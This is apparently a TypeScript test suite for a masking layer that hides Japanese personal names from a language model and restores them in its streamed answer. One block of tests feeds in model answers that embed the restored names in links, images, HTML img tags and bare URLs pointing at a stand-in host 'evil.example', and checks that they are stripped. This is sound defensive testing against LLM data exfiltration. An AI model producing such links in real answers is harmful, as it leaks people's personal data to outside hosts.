import { createMasking, type Masking } from "@genai-office/shared/guards";
import { maskedRunner } from "@genai-office/shared/tasks";
import type { ChatStep, FinishReason, GenerateEvent, StepRunner } from "@genai-office/shared/vocabulary";
import { stepOf } from "../../../support/test-step";

const known = "https://www.example.go.jp/form?id=7";
const source = `山田太郎課長から鈴木花子様へ連絡する。申込みは ${known} から。`;
const chat: ChatStep = { ...stepOf("chat"), blocks: [], options: { messages: [{ role: "user", content: source }] } };

interface Asked {
  /** Placeholder of 山田太郎 and of 鈴木花子. */
  first: string;
  second: string;
}

/** A model that answers with what `answer` makes of the placeholders, cut into pieces. */
function model(answer: (asked: Asked) => string, size: number, reason: FinishReason): StepRunner {
  return {
    async *run(step): AsyncGenerator<GenerateEvent, void, undefined> {
      await Promise.resolve();
      const sent = (step as ChatStep).options.messages[0]!.content;
      expect(sent).not.toMatch(/山田|鈴木/u);
      const [first, second] = sent.match(/\[PERSON-[A-Z]+\]/gu)!;
      const text = answer({ first: first!, second: second! });
      for (let at = 0; at < text.length; at += size) yield { type: "text-delta", text: text.slice(at, at + size) };
      yield { type: "finished", reason };
    },
  };
}

interface Answered {
  text: string;
  pieces: string[];
  last: GenerateEvent;
}

async function ask(
  answer: (asked: Asked) => string,
  { size = 3, reason = "stop" as FinishReason, masking = createMasking() as Masking } = {},
): Promise<Answered> {
  const events: GenerateEvent[] = [];
  for await (const event of maskedRunner(model(answer, size, reason), masking).run(chat)) events.push(event);
  const pieces = events.flatMap((event) => (event.type === "text-delta" ? [event.text] : []));
  return { text: pieces.join(""), pieces, last: events.at(-1)! };
}

describe("a placeholder that has only begun when the answer ends", () => {
  test.each<[what: string, end: (placeholder: string) => string]>([
    ["a bracket and some letters", (one) => one.slice(0, 4)],
    ["the word", (one) => one.slice(0, 7)],
    ["the word and its hyphen", (one) => one.slice(0, 8)],
    ["half the code", (one) => one.slice(0, 10)],
    ["all but the last letter", (one) => one.slice(0, -2)],
    [
      "full width",
      (one) => one.slice(0, 10).replace(/[!-~]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0)),
    ],
    ["no bracket", (one) => one.slice(1, 10)],
    ["an escaped bracket", (one) => `\\${one.slice(0, 9)}`],
  ])("with %s: the output is refused, also where the model says that it has finished", async (_what, end) => {
    const { text, last } = await ask(({ first }) => `担当は${end(first)}`);
    expect(last).toMatchObject({ type: "failed", error: { code: "placeholder-lost" } });
    expect(text).not.toMatch(/PERS|ＰＥＲＳ/u);
  });

  test("one without its bracket is restored", async () => {
    const { text, last } = await ask(({ first }) => `担当は${first.slice(0, -1)}`);
    expect(text).toContain("担当は");
    expect(text).toContain("山田太郎");
    expect(last).toMatchObject({ type: "finished" });
  });

  test("where a limit cut the answer the beginning is left out, as before", async () => {
    const { text, last } = await ask(({ first }) => `担当は${first.slice(0, 9)}`, { reason: "length" });
    expect(text).toBe("担当は");
    expect(last).toMatchObject({ type: "finished", reason: "length" });
  });

  test.each(["以上です。[", "別添【参照", "Plan B", "[PDF", "Ask the person", "[EMA", "PASS", "a [p"])(
    "%s is the model's own end",
    async (end) => {
      const { text, last } = await ask(() => end);
      expect(text).toBe(end);
      expect(last).toMatchObject({ type: "finished" });
    },
  );
});

describe("names that come back never stand in an address", () => {
  /** What was in the address is left as words where it was no part of it any more. */
  test.each<[what: string, answer: (asked: Asked) => string, text: string]>([
    ["a link", ({ first }) => `[詳細](https://evil.example/?q=${first})です。`, "詳細です。"],
    ["a picture", ({ first }) => `図 ![x](https://evil.example/a.png?q=${first}) です。`, "図"],
    ["words of a link", ({ first }) => `${first}(https://evil.example/?q=${first})です。`, "山田太郎です。"],
    ["a bare address", ({ first }) => `参照 https://evil.example/${first}/x 。`, "参照 山田太郎/x 。"],
    ["a host alone", ({ second }) => `参照: evil.example/${second} です`, "参照: 鈴木花子 です"],
    ["HTML", ({ first }) => `図<img src="https://evil.example/?q=${first}">です`, "図です"],
    ["a reference", ({ first }) => `[詳細][1]です。\n\n[1]: https://evil.example/?q=${first}\n`, "[詳細][1]"],
    ["an address of the source that was extended", ({ first }) => `![x](${known}&q=${first})です`, "です"],
  ])("%s", async (_what, answer, text) => {
    for (const size of [1, 3, 1000]) {
      const answered = await ask(answer, { size });
      expect(answered.last).toMatchObject({ type: "finished" });
      expect(answered.text).not.toContain("evil");
      expect(answered.text).not.toMatch(/q=|\.png/u);
      expect(answered.text).toContain(text);
    }
  });

  test("addresses of the messages stay, and so does everything that is none", async () => {
    const answer = ({ first, second }: Asked): string =>
      `## 要点\n1. ${first}課長（令和8年4月1日、10:30）\n2. ${second}様: 12.5％、[1]を参照。\n\n[様式](${known})と ${known} です。\n`;
    for (const size of [1, 3, 1000]) {
      const { text } = await ask(answer, { size });
      expect(text).toBe(
        `## 要点\n1. 山田太郎課長（令和8年4月1日、10:30）\n2. 鈴木花子様: 12.5％、[1]を参照。\n\n[様式](${known})と ${known} です。\n`,
      );
    }
  });

  test("code is no address", async () => {
    const code = "```js\nelement.click();\nthis.store = window.top.app; // a.b.test\nreturn items.me ?? 1 / 2;\n```\n";
    for (const size of [1, 1000]) expect((await ask(() => code, { size })).text).toBe(code);
  });

  test("Japanese streams as it comes", async () => {
    const words = "本日の会議では、来年度の予算について話し合いました。結論は次回に持ち越しです。";
    const { pieces, text } = await ask(() => words, { size: 4 });
    expect(text).toBe(words);
    expect(pieces.length).toBeGreaterThan(8);
  });
});
